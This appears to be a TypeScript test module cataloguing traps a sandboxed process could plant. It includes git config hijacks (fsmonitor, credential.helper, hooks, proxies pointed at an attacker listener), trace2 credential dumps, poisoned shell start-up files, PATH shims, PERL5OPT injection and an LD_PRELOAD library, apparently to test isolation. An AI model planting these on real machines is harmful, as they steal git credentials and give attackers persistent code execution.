import { existsSync } from "node:fs";

/**
 * Traps that a process in a sandbox can leave behind, each as shell text. `$W` is a working tree, `$CONFIGS` the config
 * files that git might read there, `$E` the thief's program, `$L` where the thief listens, `$HOST` the git host.
 */
export interface Way {
  readonly name: string;
  readonly set: string;
}

const ATTRIBUTES = `mkdir -p "$W/.git/info"; printf '* filter=e diff=e merge=e\\n' >"$W/.git/info/attributes"`;

/** Returns a trap that sets pairs of a key and a value in every config file of the tree. */
function configured(name: string, pairs: Readonly<Record<string, string>>, more = ":"): Way {
  const lines = Object.entries(pairs).map(([key, value]) => `git config -f "$f" --add "${key}" "${value}"`);
  return { name: `config: ${name}`, set: `for f in $CONFIGS; do ${lines.join("; ")}; done; ${more}` };
}

const TREE_CONFIGS: readonly Way[] = [
  configured("core.fsmonitor", { "core.fsmonitor": "$E" }),
  configured("core.askPass", { "core.askPass": "$E" }),
  configured("core.editor", { "core.editor": "$E" }),
  configured("sequence.editor", { "sequence.editor": "$E" }),
  configured("core.pager", { "core.pager": "$E" }),
  configured("core.sshCommand", { "core.sshCommand": "$E", "url.ssh://127.0.0.1/.insteadOf": "$HOST/" }),
  configured("core.gitProxy", { "core.gitProxy": "$E", "url.git://127.0.0.1/.insteadOf": "$HOST/" }),
  configured("ext transport", { "protocol.ext.allow": "always", "url.ext::$E %S .insteadOf": "$HOST/" }),
  configured("credential.helper", { "credential.helper": "!$E" }),
  configured("credential.<host>.helper", { "credential.$HOST.helper": "!$E" }),
  configured("gpg.program", { "gpg.program": "$E", "commit.gpgSign": "true" }),
  configured("filter.clean", { "filter.e.clean": "$E" }, ATTRIBUTES),
  configured("filter.smudge", { "filter.e.smudge": "$E" }, ATTRIBUTES),
  configured("filter.process", { "filter.e.process": "$E" }, ATTRIBUTES),
  configured("diff.textconv", { "diff.e.textconv": "$E" }, ATTRIBUTES),
  configured("diff.command", { "diff.e.command": "$E" }, ATTRIBUTES),
  configured("diff.external", { "diff.external": "$E" }),
  configured("merge.driver", { "merge.e.driver": "$E" }, ATTRIBUTES),
  configured("alias", { "alias.up": "!$E", "alias.fetch": "!$E", "alias.push": "!$E" }),
  configured("url.insteadOf", { "url.$L/.insteadOf": "$HOST/" }),
  configured("url.pushInsteadOf", { "url.$L/.pushInsteadOf": "$HOST/" }),
  configured("remote.pushurl", { "remote.origin.pushurl": "$L/open.git" }),
  {
    name: "config: remote.url",
    set: `for f in $CONFIGS; do git config -f "$f" --replace-all remote.origin.url $L/o.git; done`,
  },
  configured("remote.proxy", { "remote.origin.proxy": "$L" }),
  configured("http.proxy", { "http.proxy": "$L" }),
  configured("http.<host>.proxy", { "http.$HOST/.proxy": "$L" }),
  configured("include.path", { "include.path": "$HOME/inc" }, `printf '[http]\\nproxy = %s\\n' $L >~/inc`),
  configured(
    "config.worktree",
    { "extensions.worktreeConfig": "true" },
    `for f in $CONFIGS; do printf '[http]\\nproxy = %s\\n' $L >"$(dirname "$f")/config.worktree"; done`,
  ),
  configured("promisor remote", {
    "extensions.partialClone": "evil",
    "remote.evil.url": "$L/x.git",
    "remote.evil.promisor": "true",
  }),
  configured(
    "core.alternateRefsCommand",
    { "core.alternateRefsCommand": "$E" },
    `git init -q --bare ~/alt; for d in $CONFIGS; do o=$(dirname "$d")/objects/info; mkdir -p "$o"; echo ~/alt/objects >"$o/alternates"; done`,
  ),
];

const HOOKS =
  "pre-push post-checkout post-commit pre-commit commit-msg reference-transaction post-merge post-rewrite post-index-change pre-rebase";

const FILES: readonly Way[] = [
  {
    name: "hooks",
    set: `for f in $CONFIGS; do d=$(dirname "$f")/hooks; mkdir -p "$d"; for h in ${HOOKS}; do cp $E "$d/$h"; done; git config -f "$f" core.hooksPath "$W/.git/hooks"; done`,
  },
  {
    name: "hooks of a template",
    set: `mkdir -p ~/tpl/hooks; for h in ${HOOKS}; do cp $E ~/tpl/hooks/$h; done; git config -f ~/.gitconfig init.templateDir ~/tpl`,
  },
  {
    name: "~/.gitconfig",
    set: `printf '[http]\\nproxy = %s\\n[core]\\nfsmonitor = %s\\n' $L $E >~/.gitconfig; mkdir -p ~/.config/git; cp ~/.gitconfig ~/.config/git/config`,
  },
  {
    name: "trace2 in ~/.gitconfig",
    set: `printf '[trace2]\\neventTarget = %s\\nconfigParams = *\\nenvVars = PLANTED,WT_AUTH,GIT_CONFIG_VALUE_0\\n' ~/loot >~/.gitconfig`,
  },
  {
    name: "commondir",
    set: `cp -r "$W/.git" ~/common; git config -f ~/common/config http.proxy $L; set -- $CONFIGS; echo ~/common >"$(dirname "\${2:-$1}")/commondir"`,
  },
  {
    name: "gitdir elsewhere",
    set: `cp -r "$W/.git" ~/moved; git config -f ~/moved/config http.proxy $L; [ -d ~/.warmtree ] || { rm -rf "$W/.git"; echo "gitdir: $HOME/moved" >"$W/.git"; }; if [ -d ~/.warmtree ]; then rm -rf ~/.warmtree/net.git; ln -s ~/moved ~/.warmtree/net.git; fi`,
  },
  { name: "~/.curlrc", set: `echo "proxy = $L" >~/.curlrc` },
];

/** Appends a line to the files that shells, and programs in them, read at their start. */
const PROFILE = (line: string) =>
  `for f in .bashrc .bash_profile .profile .bash_login .bash_env .zshenv .pam_environment; do echo '${line}' >>~/$f; done`;
const SHIMS = `mkdir -p ~/bin ~/.local/bin; for p in git curl perl sed grep env flock; do cp $E ~/bin/$p; cp $E ~/.local/bin/$p; done`;

const STARTUP: readonly Way[] = [
  { name: "shell start-up files", set: PROFILE("$HOME/evil") },
  { name: "BASH_ENV", set: PROFILE("export BASH_ENV=$HOME/evil ENV=$HOME/evil") },
  { name: "programs first in PATH", set: `${SHIMS}; ${PROFILE('export PATH="$HOME/bin:$HOME/.local/bin:$PATH"')}` },
  {
    name: "programs in the tree",
    set: `for p in git curl perl sed; do cp $E "$W/$p"; done; ${PROFILE('export PATH=".:$PATH"')}`,
  },
  {
    name: "GIT_EXEC_PATH",
    set: `cp -rs "$(git --exec-path)" ~/exec; rm -f ~/exec/git-remote-http; cp $E ~/exec/git-remote-http; ${PROFILE('export GIT_EXEC_PATH="$HOME/exec"')}`,
  },
  { name: "GIT_TRACE_CURL", set: PROFILE("export GIT_TRACE_CURL=$HOME/loot GIT_TRACE_REDACT=0") },
  { name: "GIT_TRACE2", set: PROFILE("export GIT_TRACE2_EVENT=$HOME/loot GIT_TRACE2_ENV_VARS=PLANTED,WT_AUTH") },
  { name: "http_proxy", set: PROFILE("export http_proxy='$L' all_proxy='$L'") },
  { name: "GIT_ASKPASS", set: PROFILE("export GIT_ASKPASS=$HOME/evil SSH_ASKPASS=$HOME/evil") },
  { name: "GIT_EXTERNAL_DIFF", set: PROFILE("export GIT_EXTERNAL_DIFF=$HOME/evil") },
  {
    name: "PERL5OPT",
    set: `mkdir -p ~/perl; echo 'package Evil; system("$ENV{HOME}/evil"); 1;' >~/perl/Evil.pm; ${PROFILE('export PERL5LIB="$HOME/perl" PERL5OPT=-MEvil')}`,
  },
];

/** A library that runs the thief's program in each program that starts; its build needs a compiler. */
const PRELOADED: Way = {
  name: "LD_PRELOAD",
  set: `printf '%s\\n' '#include <stdlib.h>' '__attribute__((constructor)) static void f(void) { unsetenv("LD_PRELOAD"); system("$HOME/evil"); }' | cc -shared -fPIC -x c -o ~/evil.so -; ${PROFILE('export LD_PRELOAD="$HOME/evil.so"')}`,
};
const COMPILER = "/usr/bin/cc";

export const TRAPS: readonly Way[] = [
  ...TREE_CONFIGS,
  ...FILES,
  ...STARTUP,
  ...(existsSync(COMPILER) ? [PRELOADED] : []),
];
